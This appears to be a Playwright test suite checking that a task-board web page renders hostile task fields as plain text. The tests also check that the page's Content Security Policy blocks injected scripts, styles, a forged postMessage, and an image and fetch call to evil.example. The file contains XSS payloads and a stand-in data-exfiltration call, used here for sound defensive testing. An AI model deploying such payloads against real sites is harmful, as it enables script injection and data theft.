"""What strangers wrote, and what somebody could smuggle in: it is shown as text, and nothing runs."""

from typing import Any

import pytest
from playwright.async_api import expect

from server.sandbox.seed import seed_tasks
from tests.apps.browser.conftest import Make, Show
from tests.apps.hosted import Hosted
from tests.support.chromium import PHONE
from tests.support.world import World

MARKUP = '<img src=x onerror="window.ran = 1"><script>window.ran = 1</script></td></table><b>x</b>'
TURNED = "\u202epmup\u202c\u2066x\u200b\u0007\U000e0041y" + "Z" * 400
ADDED = """() => {
  window.ran = undefined;
  const script = document.createElement("script");
  script.textContent = "window.ran = 1";
  document.body.append(script);
  const link = document.createElement("a");
  link.setAttribute("onclick", "window.ran = 1");
  document.body.append(link);
  link.click();
  const image = new Image();
  image.src = "https://evil.example/seen.png";
  const style = document.createElement("style");
  style.textContent = "body { display: none }";
  document.body.append(style);
  return fetch("https://evil.example/taken").then(() => "sent", () => "not sent");
}"""


@pytest.fixture
def world(make_world: Make) -> World:
    made = make_world()
    made.sandbox.app.state.store.add(seed_tasks(0, 7, round(made.clock() * 1000), hostile=True))
    return made


async def unharmed(board: Hosted) -> None:
    """Check that text stayed text, and within its frame."""
    assert await board.inside("window.ran") is None
    assert await board.board.locator("img, a, b, iframe, form, body script:not(:last-child)").count() == 0
    assert await board.inside("document.documentElement.scrollWidth <= innerWidth")
    assert board.eyes.complaints == []
    assert not [url for url in board.eyes.requested if "evil" in url]


async def test_the_sandboxes_hostile_tasks_are_shown_and_break_nothing(show: Show, world: World) -> None:
    async with show(world, size=PHONE, arguments={"hits": 20}) as board:
        await expect(board.rows).to_have_count(20)
        await unharmed(board)
        await board.board.locator("#next").click()
        await expect(board.board.locator("#summary")).to_contain_text("21 to")
        await unharmed(board)
        await board.shot("hostile")
        for at in range(3):
            await board.board.locator(".open").nth(at).click()
            await expect(board.board.locator("#facts")).to_contain_text("user")
            await unharmed(board)
            await board.board.locator("#back").click()


async def test_names_that_a_server_let_through_are_still_only_text(show: Show, world: World) -> None:
    async with show(world) as board:

        async def raw(tool: str, given: dict[str, Any]) -> dict[str, Any] | None:
            task = {"id": "1", "name": MARKUP, "status": MARKUP, "type": TURNED, "template": MARKUP, "last_run": MARKUP,
                    "errors": {MARKUP: TURNED}, "tags": {MARKUP: MARKUP}, "resources": [TURNED]}  # fmt: skip
            page = {"total": 1, "start_index": 0, "returned": 1, "tasks": [task], "notes": [MARKUP]}
            content = {"task": task, "graph": MARKUP} if tool == "get_task" else page
            return {"result": {"content": [], "structuredContent": content}}

        board.before = raw
        await board.board.locator("#refresh").click()
        await expect(board.rows).to_have_count(1)
        await expect(board.board.locator(".open")).to_have_text(MARKUP)
        await unharmed(board)
        shown = await board.board.locator(".more").inner_text()
        assert "pmupxyZZ" in shown
        await board.board.locator(".open").click()
        await expect(board.board.locator("#one-errors")).to_contain_text(MARKUP)
        await unharmed(board)


async def test_nothing_runs_in_the_page_that_did_not_come_with_it(show: Show, world: World) -> None:
    async with show(world) as board:
        await expect(board.rows).to_have_count(20)
        assert await board.inside(ADDED) == "not sent"
        assert await board.inside("window.ran") is None
        assert await board.inside("getComputedStyle(document.body).display") == "block"
        refused = [text for text in board.eyes.complaints if "Content Security Policy" in text]
        for directive in ("script-src 'sha256-", "style-src 'sha256-", "default-src 'none'"):
            assert any(directive in text for text in refused), board.eyes.complaints


async def test_messages_of_others_than_the_host_are_not_heard(show: Show, world: World) -> None:
    async with show(world) as board:
        await expect(board.rows).to_have_count(20)
        forged = {"jsonrpc": "2.0", "method": "ui/notifications/tool-result", "params": {"isError": True}}
        await board.inside(
            """message => new Promise(heard => {
            addEventListener("message", heard, {once: true}); postMessage(message, "*") })""",
            forged,
        )
        await expect(board.board.locator("#state")).to_be_empty()
        await expect(board.rows).to_have_count(20)
